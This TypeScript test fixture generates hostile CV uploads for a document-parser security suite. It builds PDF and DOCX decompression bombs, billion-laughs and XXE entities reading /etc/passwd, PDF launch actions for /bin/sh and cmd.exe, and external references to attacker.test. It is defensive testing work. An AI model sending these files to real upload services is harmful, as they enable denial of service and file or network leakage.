/**
 * A generated corpus of hostile CV uploads for the security suite (hostile-corpus.test.ts):
 * decompression bombs of every kind (PDF Flate streams, chained filters, object streams, fonts,
 * images; DOCX entries with lying sizes, many entries, overlapping entries, nested zips), deep
 * nesting and entity expansion, malformed, truncated and mutated files, encrypted PDFs and zips,
 * polyglots, wrong types and extensions, external references, NUL bytes and invalid UTF-8.
 * Deterministic from a seed; nothing is downloaded. Each document is built only when asked for,
 * so the corpus never sits in memory as a whole.
 */
import { deflateSync } from 'node:zlib';
import {
  buildPdf,
  deflateRepeated,
  docxParts,
  makeDocx,
  makePdf,
  makeZip,
  onePagePdf,
  textOps,
  zlibWrap,
  type PdfObject,
  type ZipFile,
} from './test-fixtures.js';

export interface HostileDoc {
  id: string;
  category: string;
  fileName: string;
  build(): Uint8Array;
  /** Statuses this document must get when its outcome does not depend on timing; any 2xx/4xx otherwise. */
  expect?: number[];
}

const MIB = 1024 * 1024;
const enc = new TextEncoder();
const LINES = ['Jordan Example, Site Reliability Engineer', 'Experience: Kubernetes, Terraform, Go and incident response'];
const REL_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const REL_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** mulberry32: a small seeded PRNG, so every run builds the same corpus. */
export function createRandom(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return { next, int: (n: number) => Math.floor(next() * n), pick: <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]! };
}

const filled = new Map<number, Uint8Array>();
/** One shared MiB of `byte` per value, so its compressed form is computed once (deflateRepeated caches by identity). */
function fill(byte: number): Uint8Array {
  let chunk = filled.get(byte);
  if (!chunk) filled.set(byte, (chunk = new Uint8Array(MIB).fill(byte)));
  return chunk;
}
const KIB_OF_SPACES = new Uint8Array(1024).fill(0x20);

/** Bytes that look like compressed image data (no long runs), from a seed. */
function noise(length: number, seed: number): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed | 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

function concat(...parts: (Uint8Array | string)[]): Uint8Array {
  return new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p))));
}

/** A zlib-wrapped stream of `text` followed by `mib` MiB of `byte`. */
function flateBomb(mib: number, byte = 0x20, text = textOps(LINES)): Uint8Array {
  return zlibWrap(deflateRepeated(text, fill(byte), mib));
}

function rels(...items: string[]): string {
  return `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${REL_NS}">${items.join('')}</Relationships>`;
}

function docWithBody(body: string, prolog = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'): string {
  return `${prolog}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
}

const PARA = (t: string) => `<w:p><w:r><w:t>${t}</w:t></w:r></w:p>`;

function docxWithDocument(documentXml: string | Uint8Array, extra: ZipFile[] = []): Uint8Array {
  const [types, rootRels] = docxParts(LINES);
  return makeZip([types!, rootRels!, { name: 'word/document.xml', data: documentXml }, ...extra]);
}

/** A zip whose central directory has `copies` entries all pointing at one local file (overlapping entries). */
function overlappingZip(copies: number, payload: ZipFile): Uint8Array {
  const base = makeZip([...docxParts(LINES), payload]);
  const view = new DataView(base.buffer, base.byteOffset, base.byteLength);
  const eocd = base.length - 22;
  const cdOffset = view.getUint32(eocd + 16, true);
  const cdSize = view.getUint32(eocd + 12, true);
  const cd = base.subarray(cdOffset, cdOffset + cdSize);
  // The last central entry is the payload's; repeat it under new names.
  let last = 0;
  for (let p = 0; p < cd.length; ) {
    last = p;
    const dv = new DataView(cd.buffer, cd.byteOffset + p);
    p += 46 + dv.getUint16(28, true) + dv.getUint16(30, true) + dv.getUint16(32, true);
  }
  const entry = cd.subarray(last);
  const extra: Uint8Array[] = [];
  for (let i = 0; i < copies; i++) {
    const e = new Uint8Array(entry);
    const name = enc.encode(`word/media/c${String(i).padStart(4, '0')}.bin`.slice(0, e.length - 46));
    const copy = concat(e.subarray(0, 46), name);
    new DataView(copy.buffer).setUint16(28, name.length, true);
    extra.push(copy);
  }
  const newCd = concat(cd, ...extra);
  const newEocd = new Uint8Array(base.subarray(eocd));
  const ev = new DataView(newEocd.buffer);
  const total = ev.getUint16(10, true) + copies;
  ev.setUint16(8, total, true);
  ev.setUint16(10, total, true);
  ev.setUint32(12, newCd.length, true);
  return concat(base.subarray(0, cdOffset), newCd, newEocd);
}

function mutate(bytes: Uint8Array, rand: ReturnType<typeof createRandom>, flips: number): Uint8Array {
  const out = new Uint8Array(bytes);
  for (let i = 0; i < flips; i++) out[rand.int(out.length)] = rand.int(256);
  return out;
}

function runLength(data: Uint8Array): Uint8Array {
  // Literal runs of up to 128 bytes, then EOD (PDF 32000-1 §7.4.5).
  const out: number[] = [];
  for (let i = 0; i < data.length; i += 128) {
    const run = data.subarray(i, i + 128);
    out.push(run.length - 1, ...run);
  }
  out.push(128);
  return Uint8Array.from(out);
}

function runLengthBomb(repeats: number): Uint8Array {
  // Each two-byte record expands to 128 bytes: a 64× bomb.
  const out = new Uint8Array(repeats * 2 + 1);
  for (let i = 0; i < repeats; i++) {
    out[i * 2] = 129;
    out[i * 2 + 1] = 0x20;
  }
  out[out.length - 1] = 128;
  return out;
}

/** ASCII85 (PDF 32000-1 §7.4.3), with 'z' for all-zero groups, ended by '~>'. */
function ascii85(data: Uint8Array): string {
  const out: string[] = [];
  for (let i = 0; i < data.length; i += 4) {
    const n = Math.min(4, data.length - i);
    let v = 0;
    for (let k = 0; k < 4; k++) v = v * 256 + (k < n ? data[i + k]! : 0);
    if (v === 0 && n === 4) {
      out.push('z');
      continue;
    }
    const digits: string[] = [];
    for (let k = 0; k < 5; k++) {
      digits.unshift(String.fromCharCode(0x21 + (v % 85)));
      v = Math.floor(v / 85);
    }
    out.push(digits.slice(0, n + 1).join(''));
  }
  out.push('~>');
  return out.join('');
}

const SIGNATURES: Record<string, number[]> = {
  png: [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
  jpeg: [0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0],
  gif: [0x47, 0x49, 0x46, 0x38, 0x39, 0x61],
  elf: [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0],
  pe: [0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0],
  gzip: [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3],
  bzip2: [0x42, 0x5a, 0x68, 0x39, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 0, 0],
  sevenzip: [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4],
  rar: [0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00],
  tiff: [0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0],
  webp: [0x52, 0x49, 0x46, 0x46, 0x24, 0, 0, 0, 0x57, 0x45, 0x42, 0x50],
  ole: [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1],
  mp3: [0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 0],
  wasm: [0x00, 0x61, 0x73, 0x6d, 1, 0, 0, 0],
};

/** The whole corpus, in a fixed order. */
export function generateHostileCorpus(seed = 15): HostileDoc[] {
  const rand = createRandom(seed);
  const docs: HostileDoc[] = [];
  const add = (category: string, fileName: string, build: () => Uint8Array, expect?: number[]) =>
    docs.push({ id: `${category}#${docs.filter((d) => d.category === category).length}`, category, fileName, build, ...(expect ? { expect } : {}) });
  const validPdf = makePdf(LINES);
  const validDocx = makeDocx(LINES);

  // ---- PDF decompression bombs ----
  for (const mib of [65, 96, 128, 256, 400, 1024]) {
    for (const byte of [0x20, 0x00]) add('pdf-flate-bomb', 'cv.pdf', () => onePagePdf({ dict: '/Filter /FlateDecode', data: flateBomb(mib, byte) }), [413]);
  }
  for (const mib of [128, 1024]) {
    // The same bomb behind an abbreviated filter name, an array filter, and an indirect filter.
    add('pdf-flate-bomb', 'cv.pdf', () => onePagePdf({ dict: '/Filter /Fl', data: flateBomb(mib) }), [413]);
    add('pdf-flate-bomb', 'cv.pdf', () => onePagePdf({ dict: '/Filter [/FlateDecode]', data: flateBomb(mib) }), [413]);
    add('pdf-flate-bomb', 'cv.pdf', () => onePagePdf({ dict: '/Filter 6 0 R', data: flateBomb(mib) }, ['/FlateDecode']), [413]);
    // No filter at all: the reader takes the compressed bytes as they are and inflates nothing.
    add('pdf-flate-bomb', 'cv.pdf', () => onePagePdf({ dict: '', data: flateBomb(mib) }));
  }
  for (const mib of [256, 1024, 4096]) {
    // Two Flate stages: the inner bomb is itself compressed again.
    add('pdf-chained-flate-bomb', 'cv.pdf', () => onePagePdf({ dict: '/Filter [/FlateDecode /FlateDecode]', data: deflateSync(flateBomb(mib), { level: 9 }) }), [413]);
    add('pdf-chained-flate-bomb', 'cv.pdf', () => onePagePdf({ dict: '/Filter [/Fl /Fl /Fl]', data: deflateSync(deflateSync(flateBomb(mib), { level: 9 })) }), [413]);
  }
  for (const mib of [96, 512]) {
    for (const n of [1, 1000]) {
      add('pdf-objstm-bomb', 'cv.pdf', () =>
        onePagePdf({ dict: '/Filter /FlateDecode', data: deflateSync(textOps(LINES)) }, [{ dict: `/Type /ObjStm /N ${n} /First 20 /Filter /FlateDecode`, data: flateBomb(mib, 0x20, '6 0 ') }]),
      [413]);
    }
  }
  for (const [streams, mib] of [
    [70, 1],
    [20, 4],
    [600, 1],
  ] as const) {
    add('pdf-many-streams-bomb', 'cv.pdf', () => {
      const extra: PdfObject[] = Array.from({ length: streams }, () => ({ dict: '/Filter /FlateDecode', data: flateBomb(mib, 0, '') }));
      return onePagePdf({ dict: '', data: textOps(LINES) }, extra);
    }, [413]);
  }
  for (const mib of [80, 300]) {
    add('pdf-font-bomb', 'cv.pdf', () =>
      buildPdf([
        '',
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
        '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 32 /LastChar 126 /Widths [] /FontDescriptor 6 0 R >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
        { dict: '', data: textOps(LINES) },
        '<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>',
        { dict: '/Filter /FlateDecode', data: flateBomb(mib, 0, '') },
      ]),
    [413]);
  }
  for (const [w, hgt, mib] of [
    [30000, 30000, 100],
    [65535, 65535, 2],
    [100000, 100000, 0],
    [1, 1, 0],
  ] as const) {
    add('pdf-image-bomb', 'cv.pdf', () =>
      buildPdf([
        '',
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> /XObject << /Im1 6 0 R >> >> /Contents 5 0 R >>',
        { dict: '', data: `q 612 0 0 792 0 0 cm /Im1 Do Q ${textOps(LINES)}` },
        { dict: `/Type /XObject /Subtype /Image /Width ${w} /Height ${hgt} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode`, data: mib ? flateBomb(mib, 0, '') : deflateSync(new Uint8Array(64)) },
      ]),
    mib > 64 ? [413] : undefined);
  }
  // Non-Flate expansion: RunLength (64×) and ASCIIHex content streams, bounded by the child's limits.
  for (const repeats of [1024, 65536, 262144]) add('pdf-runlength', 'cv.pdf', () => onePagePdf({ dict: '/Filter /RunLengthDecode', data: concat(runLength(enc.encode(textOps(LINES))).slice(0, -1), runLengthBomb(repeats)) }));
  add('pdf-asciihex', 'cv.pdf', () => onePagePdf({ dict: '/Filter /ASCIIHexDecode', data: `${Buffer.from(textOps(LINES)).toString('hex')}>` }));
  add('pdf-asciihex', 'cv.pdf', () => onePagePdf({ dict: '/Filter [/ASCIIHexDecode /FlateDecode]', data: `${Buffer.from(flateBomb(100)).toString('hex')}>` }), [413]);
  add('pdf-runlength', 'cv.pdf', () => onePagePdf({ dict: '/Filter /RunLengthDecode', data: concat(runLength(enc.encode(textOps(LINES))).slice(0, -1), runLengthBomb(600_000)) }), [413]);
  add('pdf-ascii85', 'cv.pdf', () => onePagePdf({ dict: '/Filter /ASCII85Decode', data: ascii85(enc.encode(textOps(LINES))) }), [200]);
  add('pdf-ascii85', 'cv.pdf', () => onePagePdf({ dict: '/Filter [/A85 /Fl]', data: ascii85(deflateSync(textOps(LINES))) }), [200]);
  add('pdf-ascii85', 'cv.pdf', () => onePagePdf({ dict: '/Filter [/ASCII85Decode /FlateDecode]', data: ascii85(flateBomb(200)) }), [413]);
  // 'z' is four zero bytes: 9 MB of it would be 36 MB, under the budget; chained with more, over it.
  add('pdf-ascii85', 'cv.pdf', () => onePagePdf({ dict: '/Filter /ASCII85Decode', data: `${ascii85(enc.encode(textOps(LINES))).slice(0, -2)}${'z'.repeat(4 * MIB)}~>` }));
  add('pdf-ascii85', 'cv.pdf', () =>
    onePagePdf({ dict: '/Filter [/ASCII85Decode /ASCIIHexDecode]', data: ascii85(enc.encode(`${Buffer.from(textOps(LINES)).toString('hex')}${'0'.repeat(7 * MIB)}>`)) }),
  );

  // ---- PDF structure: deep nesting, page trees, cross-reference tables ----
  for (const depth of [1000, 50_000, 500_000]) {
    add('pdf-deep-nesting', 'cv.pdf', () => onePagePdf({ dict: '', data: `${'['.repeat(depth)}${']'.repeat(depth)} ${textOps(LINES)}` }));
    add('pdf-deep-nesting', 'cv.pdf', () =>
      buildPdf(['', '<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [3 0 R] /Count 1 /X ${'<< /A '.repeat(depth)}1${' >>'.repeat(depth)} >>`, '<< /Type /Page /Parent 2 0 R >>']),
    );
  }
  add('pdf-page-tree', 'cv.pdf', () => buildPdf(['', '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']));
  add('pdf-page-tree', 'cv.pdf', () => buildPdf(['', '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>', '<< /Type /Page /Parent 2 0 R >>']), [413, 422]);
  add('pdf-page-tree', 'cv.pdf', () => buildPdf(['', '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R 3 0 R 3 0 R] /Count 3 >>', '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>']));
  add('pdf-page-tree', 'cv.pdf', () => buildPdf(['', '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [9 0 R] /Count 1 >>']));
  add('pdf-page-tree', 'cv.pdf', () => buildPdf(['', '<< /Type /Catalog /Pages 1 0 R >>']));
  add('pdf-page-tree', 'cv.pdf', () => makePdf(Array.from({ length: 31 }, (_, i) => `Page ${i} ${LINES[0]}`)), [413]);
  add('pdf-page-tree', 'cv.pdf', () => makePdf(Array.from({ length: 500 }, () => '')), [413]);
  add('pdf-xref', 'cv.pdf', () => concat(validPdf.subarray(0, validPdf.length - 20), 'startxref\n999999999\n%%EOF\n'));
  add('pdf-xref', 'cv.pdf', () => concat(validPdf.subarray(0, validPdf.length - 20), 'startxref\n-5\n%%EOF\n'));
  add('pdf-xref', 'cv.pdf', () => concat('%PDF-1.5\n', '1 0 obj\n<< /Type /XRef /Size 100000000 /W [1 4 2] /Index [0 100000000] /Root 2 0 R /Length 7 >>\nstream\n\x01\x00\x00\x00\x0f\x00\x00\nendstream\nendobj\nstartxref\n9\n%%EOF\n'));
  add('pdf-xref', 'cv.pdf', () => concat('%PDF-1.5\n', '1 0 obj\n<< /Type /XRef /Size 3 /W [255 255 255] /Root 2 0 R /Length 3 >>\nstream\nabc\nendstream\nendobj\nstartxref\n9\n%%EOF\n'));
  add('pdf-xref', 'cv.pdf', () => concat('%PDF-1.4\n', `${'1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n'.repeat(20000)}%%EOF\n`));
  add('pdf-xref', 'cv.pdf', () => concat(validPdf, '\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Prev 0 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'));

  // ---- Encrypted PDFs ----
  const h32 = (c: string) => c.repeat(64);
  for (const enc of [
    '/Filter /Standard /V 1 /R 2 /O <H> /U <H> /P -4',
    '/Filter /Standard /V 2 /R 3 /Length 128 /O <H> /U <H> /P -1028',
    '/Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF /O <H> /U <H> /P -1028',
    '/Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /StdCF /O <H> /U <H> /OE <H> /UE <H> /Perms <0000000000000000> /P -1028',
    '/Filter /Adobe.PubSec /V 4 /R 4 /SubFilter /adbe.pkcs7.s5 /Recipients [<3000>]',
    '/Filter /Unknown /V 9 /R 9',
  ]) {
    for (const hex of ['a1', '00']) {
      add('pdf-encrypted', 'cv.pdf', () => {
        const objs: PdfObject[] = ['', '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [4 0 R] /Count 1 >>', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>', { dict: '', data: textOps(LINES) }, `<< ${enc.replaceAll('<H>', `<${h32(hex)}>`)} >>`];
        return buildPdf(objs, ` /Encrypt 6 0 R /ID [<${'0'.repeat(32)}> <${'0'.repeat(32)}>]`);
      });
    }
  }

  // ---- Active content and external references in PDFs (never run, never fetched) ----
  for (const action of [
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>',
    '/OpenAction << /S /URI /URI (http://attacker.test/x) >>',
    '/OpenAction << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>',
    '/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://attacker.test/) >> >>',
    '/AA << /O << /S /JavaScript /JS (while\\(1\\){}) >> >>',
    '/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>] >> >>',
    '/AcroForm << /XFA 6 0 R /Fields [] >>',
  ]) {
    add('pdf-active-content', 'cv.pdf', () =>
      buildPdf([
        '',
        `<< /Type /Catalog /Pages 2 0 R ${action} >>`,
        '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
        { dict: '', data: textOps(LINES) },
        { dict: '/Type /EmbeddedFile /Filter /FlateDecode', data: deflateSync('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field><ui><imageEdit/></ui><value><image href="http://attacker.test/a.png"/></value></field></subform></template></xdp:xdp>') },
      ]),
    [200]);
  }

  // ---- Polyglots and misplaced headers ----
  add('polyglot', 'cv.pdf', () => concat(validPdf, validDocx));
  add('polyglot', 'cv.docx', () => concat(validDocx.subarray(0, 4), validPdf));
  add('polyglot', 'cv.pdf', () => concat('<html><script>alert(1)</script>', validPdf), [200]);
  add('polyglot', 'cv.pdf', () => concat(' '.repeat(1000), validPdf), [200]);
  add('polyglot', 'cv.pdf', () => concat(' '.repeat(1100), validPdf));
  add('polyglot', 'cv.pdf', () => concat(new Uint8Array(SIGNATURES.png!), validPdf), [200]);
  add('polyglot', 'cv.pdf', () => concat(new Uint8Array(SIGNATURES.jpeg!), ' '.repeat(30), validPdf), [200]);
  add('polyglot', 'cv.docx', () => concat(validDocx, validPdf));
  add('polyglot', 'cv.pdf', () => concat(validPdf.subarray(0, 200), new Uint8Array(300), validPdf.subarray(200)));
  add('polyglot', 'cv.gif', () => concat('GIF89a/*', validPdf, '*/=1;'));

  // ---- PDF: truncation and random corruption ----
  for (let i = 0; i < 40; i++) {
    const cut = Math.max(1, Math.floor((validPdf.length * (i + 0.5)) / 40));
    add('pdf-truncated', 'cv.pdf', () => validPdf.slice(0, cut));
  }
  for (let i = 0; i < 60; i++) {
    const flips = 1 + rand.int(24);
    const s = rand.int(2 ** 31);
    add('pdf-mutated', rand.pick(['cv.pdf', 'cv.txt', 'resume.docx']), () => mutate(validPdf, createRandom(s), flips));
  }

  // ---- DOCX: lying sizes, many entries, overlapping entries, nested zips ----
  for (const realMiB of [51, 64, 100, 300, 1024]) {
    for (const declared of [0, 4096, MIB]) {
      add('docx-lying-size', 'cv.docx', () => {
        const [types, rootRels, doc] = docxParts(LINES);
        const xml = doc!.data as string;
        const cut = xml.lastIndexOf('</w:document>');
        const deflated = deflateRepeated(`${xml.slice(0, cut)}<!--`, fill(0x20), realMiB, `-->${xml.slice(cut)}`);
        return makeZip([types!, rootRels!, { name: 'word/document.xml', data: '', deflated, declaredSize: declared }]);
      }, [413]);
    }
  }
  for (const name of ['word/styles.xml', 'word/media/image1.png', 'docProps/core.xml', 'customXml/item1.xml', 'word/_rels/document.xml.rels']) {
    add('docx-lying-size', 'cv.docx', () => makeZip([...docxParts(LINES), { name, data: '', deflated: deflateRepeated('', fill(0x41), 200), declaredSize: 100 }]), [413]);
  }
  add('docx-lying-size', 'cv.docx', () => makeZip([...docxParts(LINES), { name: 'word/big.bin', data: new Uint8Array(2 * MIB), method: 0, declaredSize: 10 }]));
  for (const [count, kib, lie] of [
    [999, 60, false],
    [999, 60, true],
    [997, 0, false],
    [500, 120, true],
  ] as const) {
    add('docx-many-entries', 'cv.docx', () =>
      makeZip([
        ...docxParts(LINES),
        ...Array.from({ length: count }, (_, i) => ({ name: `word/parts/p${i}.xml`, data: '', deflated: deflateRepeated('', KIB_OF_SPACES, kib), ...(lie ? { declaredSize: 1 } : {}) })),
      ]),
    kib * count > 50 * 1024 ? [413] : [200]);
  }
  add('docx-many-entries', 'cv.docx', () => makeZip([...docxParts(LINES), ...Array.from({ length: 1001 }, (_, i) => ({ name: `x/${i}`, data: '' }))]), [413]);
  for (const copies of [60, 400, 990]) {
    add('docx-overlapping-entries', 'cv.docx', () => overlappingZip(copies, { name: 'word/media/x.bin', data: '', deflated: deflateRepeated('', fill(0), 1), declaredSize: 1000 }), [413]);
  }
  for (const inner of [1, 512]) {
    add('docx-nested-zip', 'cv.docx', () => {
      const innerZip = makeZip([{ name: 'bomb.bin', data: '', deflated: deflateRepeated('', fill(0), inner) }]);
      return makeZip([...docxParts(LINES), { name: 'word/embeddings/oleObject1.zip', data: innerZip, method: 0 }, { name: 'word/embeddings/inner.docx', data: makeZip([...docxParts(LINES), { name: 'b', data: '', deflated: deflateRepeated('', fill(0), inner) }]) }]);
    }, [200]);
  }

  // ---- DOCX: XML entity expansion, deep nesting, encodings ----
  for (const levels of [3, 6, 10]) {
    add('docx-billion-laughs', 'cv.docx', () => {
      let dtd = '<!ENTITY lol0 "lollollollollollollollollollol">';
      for (let i = 1; i < levels; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
      return docxWithDocument(docWithBody(`${PARA(LINES[0]!)}${PARA(`&lol${levels - 1};`)}${PARA(LINES[1]!)}`, `<?xml version="1.0"?><!DOCTYPE w:document [${dtd}]>`));
    });
  }
  add('docx-billion-laughs', 'cv.docx', () => docxWithDocument(docWithBody(PARA('&xxe;') + PARA(LINES[0]!) + PARA(LINES[1]!), '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')));
  add('docx-billion-laughs', 'cv.docx', () => docxWithDocument(docWithBody(PARA('&xxe;') + PARA(LINES[0]!) + PARA(LINES[1]!), '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "http://attacker.test/x">]>')));
  for (const depth of [1000, 20_000, 200_000]) {
    add('docx-deep-nesting', 'cv.docx', () => docxWithDocument(docWithBody(`${PARA(LINES[0]!)}${'<w:sdt><w:sdtContent>'.repeat(depth)}${PARA(LINES[1]!)}${'</w:sdtContent></w:sdt>'.repeat(depth)}`)));
    add('docx-deep-nesting', 'cv.docx', () => docxWithDocument(docWithBody(`${PARA(LINES[0]!)}${'<w:x>'.repeat(depth)}${'</w:x>'.repeat(depth)}${PARA(LINES[1]!)}`)));
    add('docx-deep-nesting', 'cv.docx', () => docxWithDocument(docWithBody(`${PARA(LINES[0]!)}${'<w:x>'.repeat(depth)}`)));
  }
  add('docx-encoding', 'cv.docx', () => docxWithDocument(concat(docWithBody(PARA(LINES[0]!)).slice(0, 120), new Uint8Array([0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80]), docWithBody(PARA(LINES[1]!)).slice(120))));
  add('docx-encoding', 'cv.docx', () => docxWithDocument(docWithBody(`${PARA(LINES[0]!)}${PARA('\u0000\u0000nul')}${PARA(LINES[1]!)}`)));
  add('docx-encoding', 'cv.docx', () => docxWithDocument(new Uint8Array(Buffer.from(`\ufeff${docWithBody(PARA(LINES[0]!) + PARA(LINES[1]!), '<?xml version="1.0" encoding="UTF-16"?>')}`, 'utf16le'))));
  // 2 MB of varied prose (compresses like real text, unlike one repeated line): read, then cut to MAX_TEXT_CHARS.
  const proseSeed = rand.int(2 ** 31);
  add('docx-encoding', 'cv.docx', () => {
    const r = createRandom(proseSeed);
    const words = ['deployed', 'Kubernetes', 'latency', 'on-call', 'Terraform', 'migrated', 'Postgres', 'incident', 'reduced', 'costs', 'mentored', 'engineers'];
    const paras: string[] = [];
    for (let size = 0; size < 2 * MIB; ) {
      const p = Array.from({ length: 40 }, () => `${r.pick(words)}${r.int(1000)}`).join(' ');
      paras.push(PARA(p));
      size += p.length + 40;
    }
    return docxWithDocument(docWithBody(paras.join('')));
  }, [200]);
  add('docx-encoding', 'cv.docx', () => docxWithDocument(docWithBody(PARA(`\u202e${LINES[0]}\u200b\u2066${LINES[1]}`))), [200]);
  add('docx-encoding', 'cv.docx', () => docxWithDocument('not xml at all <<<< &&&'));
  add('docx-encoding', 'cv.docx', () => docxWithDocument(''));

  // ---- DOCX: external references ----
  const ext = (type: string, target: string, q = '"', mode = 'External') =>
    `<Relationship Id=${q}rId9${q} Type=${q}${REL_TYPE}/${type}${q} Target=${q}${target}${q} TargetMode=${q}${mode}${q}/>`;
  for (const [type, target] of [
    ['image', 'file:///etc/passwd'],
    ['image', 'http://attacker.test/pixel.png'],
    ['oleObject', '\\\\attacker.test\\share\\x.xls'],
    ['subDocument', 'http://attacker.test/sub.docx'],
    ['frame', 'http://attacker.test/frame.html'],
    ['attachedTemplate', 'http://attacker.test/t.dotm'],
  ] as const) {
    for (const [q, mode] of [
      ['"', 'External'],
      ["'", 'External'],
      ['"', 'external'],
      ["'", 'EXTERNAL'],
    ] as const) {
      add('docx-external-reference', 'cv.docx', () => makeDocx(LINES, rels(ext(type, target, q, mode))), [422]);
    }
  }
  add('docx-external-reference', 'cv.docx', () => makeZip([...docxParts(LINES), { name: 'word/_rels/settings.xml.rels', data: rels(ext('attachedTemplate', 'http://attacker.test/t.dotm')) }]), [422]);
  add('docx-external-reference', 'cv.docx', () => makeZip([...docxParts(LINES), { name: 'word/_rels/header1.xml.rels', data: rels(ext('image', 'http://attacker.test/x.png', "'")) }]), [422]);
  add('docx-external-reference', 'cv.docx', () => makeDocx(LINES, rels(`<Relationship Id="rId9" Type="${REL_TYPE}/image"  TargetMode = 'External'  Target="http://attacker.test/x.png"/>`)), [422]);
  for (const q of ['"', "'"]) add('docx-external-reference', 'cv.docx', () => makeDocx(LINES, rels(ext('hyperlink', 'https://example.org/me', q))), [200]);
  add('docx-external-reference', 'cv.docx', () => makeDocx(LINES, rels(ext('image', 'media/image1.png', '"', 'Internal'))), [200]);

  // ---- DOCX: encryption and zip structure ----
  add('docx-encrypted', 'cv.docx', () => makeZip(docxParts(LINES).map((p) => ({ ...p, flags: 1 }))), [422]);
  add('docx-encrypted', 'cv.docx', () => makeZip([...docxParts(LINES), { name: 'word/media/x.bin', data: 'secret', flags: 0x41 }]), [422]);
  add('docx-encrypted', 'cv.docx', () => concat(new Uint8Array(SIGNATURES.ole!), new Uint8Array(4096).fill(0xff)), [415]);
  add('docx-encrypted', 'cv.docx', () => makeZip(docxParts(LINES).map((p) => ({ ...p, method: 99 }))), [422]);
  for (const method of [1, 6, 9, 12, 14, 95, 98]) add('docx-zip-structure', 'cv.docx', () => makeZip([...docxParts(LINES).slice(0, 2), { name: 'word/document.xml', data: docWithBody(PARA(LINES[0]!)), method }]), [422]);
  const eocdPatch = (patch: (v: DataView, eocd: number) => void) => () => {
    const z = makeDocx(LINES);
    patch(new DataView(z.buffer), z.length - 22);
    return z;
  };
